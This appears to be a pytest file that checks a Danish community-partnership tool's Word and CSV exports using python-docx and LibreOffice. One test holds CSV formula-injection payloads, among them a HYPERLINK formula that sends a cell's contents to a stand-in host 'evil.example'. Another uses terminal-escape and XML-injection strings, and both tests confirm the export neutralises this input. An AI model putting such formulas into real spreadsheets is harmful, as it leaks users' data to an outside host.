@@ -1,0 +1,163 @@
+"""Word and spreadsheets: the .docx read back with python-docx and converted to PDF by
+LibreOffice; the CSV opened by LibreOffice Calc, which must not run a formula from it."""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from docx import Document
+
+from samarbejde.content import load_guide
+from samarbejde.docx_report import docx_bytes
+from samarbejde.export import csv_bytes
+from samarbejde.model import Partner
+from samarbejde.store import Store
+
+from .conftest import FIXTURES
+
+TODAY = dt.date(2026, 11, 28)
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+needs_office = pytest.mark.skipif(
+    SOFFICE is None, reason="no LibreOffice here (.ci/run installs Debian's -nogui packages)"
+)
+
+
+def word(store: Store, tmp_path: Path, fixture: str = "report_9.yaml") -> Path:
+    session = store.load(FIXTURES / fixture)
+    path = tmp_path / "rapport.docx"
+    path.write_bytes(docx_bytes(session, load_guide(), TODAY))
+    return path
+
+
+def office(tmp_path: Path, source: Path, to: str, *options: str) -> Path:
+    """`source` converted by LibreOffice headless; its own profile, so tests run side by side."""
+    assert SOFFICE is not None
+    out = tmp_path / "office"
+    subprocess.run(
+        [
+            SOFFICE,
+            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
+            "--headless",
+            *options,
+            "--convert-to",
+            to,
+            "--outdir",
+            str(out),
+            str(source),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+        env={**os.environ, "HOME": str(tmp_path)},
+    )
+    return out / (source.stem + "." + to.split(":")[0])
+
+
+def test_word_has_headings_the_board_tables_and_ticks(store: Store, tmp_path: Path) -> None:
+    doc = Document(str(word(store, tmp_path)))
+    headings = [
+        (p.style.name, p.text) for p in doc.paragraphs if p.style.name.startswith(("Head", "Title"))
+    ]
+    assert headings[0] == ("Title", "Fællesspisning i Nordby")
+    assert ("Heading 1", "Overblik") in headings
+    assert ("Heading 1", "3. Hvem skal vi så række ud til? — Prioriter") in headings
+    assert ("Heading 2", "1. Biblioteket (Ræk ud først)") in headings  # an outreach plan
+    board, partners, ranks, contacts = doc.tables
+    # the board: a 2×2 table of the quadrants, high influence on top, high interest right
+    assert board.cell(0, 2).text == "Fælles interesse: høj"
+    assert board.cell(1, 2).text.startswith("Ræk ud først: 1. Biblioteket, 2. Frivilligcentret")
+    assert board.cell(2, 1).text.startswith("Hold øje med: ")
+    assert [c.text for c in partners.rows[0].cells] == ["Navn", "Type", "Kontaktperson",
+                                                        "Kan bidrage med"]  # fmt: skip
+    assert len(partners.rows) == 10 and len(ranks.rows) == 10
+    assert [c.text for c in ranks.rows[1].cells] == ["1", "Biblioteket", "Ræk ud først", "4", "5"]
+    assert contacts.rows[1].cells[1].text == "Frivilligcentret Nordby"
+    text = "\n".join(p.text for p in doc.paragraphs)
+    assert "☑ 1. Find fælles grund" in text and "☐ 2. Vær åben for forskelle" in text
+    assert "Næste kontakt: 01-11-2026 (overskredet pr. 28-11-2026)" in text
+    footer = doc.sections[0].footer.paragraphs[0]
+    assert "Fællesspisning i Nordby" in footer.text and "Side" in footer.text
+
+
+def test_word_holds_hostile_text_as_text(store: Store, tmp_path: Path) -> None:
+    session = store.load(FIXTURES / "report_9.yaml")
+    session.partners.append(
+        Partner(id="p99", name="\x1b]0;ondt\x07<w:t>\ud7ff\x00", interest=5, influence=5)
+    )
+    path = tmp_path / "ond.docx"
+    path.write_bytes(docx_bytes(session, load_guide(), TODAY))
+    names = [row.cells[1].text for row in Document(str(path)).tables[2].rows]
+    assert any(n.startswith("␛]0;ondt␇<w:t>") for n in names)
+
+
+@needs_office
+def test_word_opens_in_libreoffice_with_its_text(store: Store, tmp_path: Path) -> None:
+    import pdfplumber
+
+    pdf = office(tmp_path, word(store, tmp_path, "report_60.yaml"), "pdf")
+    with pdfplumber.open(pdf) as doc:
+        pages = [page.extract_text() or "" for page in doc.pages]
+    text = "\n".join(pages)
+    assert "Overblik" in text and "Ræk ud først" in text and "Tjekliste" in text
+    assert "Partner 60" in text and "☐ 2. Vær åben for forskelle" in text
+    assert f"Side 1 af {len(pages)}" in pages[0]
+
+
+@needs_office
+def test_libreoffice_runs_no_formula_from_the_csv(store: Store, tmp_path: Path) -> None:
+    session = store.load(FIXTURES / "report_9.yaml")
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1;"Klik her")', "=1+1", "+45 20 30 40 50",
+                "-Bestyrelsen", "@SUM(1;2)"]  # fmt: skip
+    session.partners = [
+        Partner(id=f"p{i}", name=payload, contact=payload, brings=payload)
+        for i, payload in enumerate(payloads, 1)
+    ]
+    source = tmp_path / "partnere.csv"
+    source.write_bytes(csv_bytes(session, load_guide()))
+    # Calc's CSV import with formulas evaluated (the last option), as a user opening it would
+    html = office(
+        tmp_path, source, "html", "--infilter=CSV:59,34,76,1,,1030,false,true,false,false,false,-1"
+    ).read_text(encoding="utf-8", errors="replace")
+    assert "evil.example" in html  # the text is there …
+    assert 'href="http://evil.example' not in html  # … but no live link
+    assert ">2<" not in html.replace(" ", "")  # =1+1 was not computed
+    assert "45 20 30 40 50" in html and "Bestyrelsen" in html
+    assert "Err:" not in html and "#NAME" not in html  # nothing was read as a formula
+
+
+def test_export_command_writes_word(cli, nordby: Path, tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    result = cli("export", "nordby", "--format", "docx")
+    assert result.code == 0, result.stderr
+    target = tmp_path / "faellesspisning-i-nordby.docx"
+    assert target.stat().st_mode & 0o777 == 0o600
+    assert Document(str(target)).paragraphs[0].text == "Fællesspisning i Nordby"
+    assert cli("export", "nordby", "--format", "docx").code == 1  # no overwrite without --force
+
+
+def test_word_goes_to_a_pipe_but_not_to_a_terminal(nordby: Path, tmp_path: Path) -> None:
+    import pexpect
+
+    piped = subprocess.run(
+        [sys.executable, "-m", "samarbejde", "export", "nordby", "--format", "docx", "-o", "-"],
+        capture_output=True,
+        timeout=60,
+    )
+    assert piped.returncode == 0 and piped.stdout[:2] == b"PK"  # a zip: the .docx itself
+    child = pexpect.spawn(
+        sys.executable,
+        ["-m", "samarbejde", "export", "nordby", "--format", "docx", "-o", "-"],
+        encoding="utf-8",
+        timeout=30,
+        dimensions=(30, 100),
+    )
+    child.expect(pexpect.EOF)
+    child.close()
+    assert child.exitstatus == 2
+    assert "Et Word-dokument kan ikke vises i terminalen" in child.before
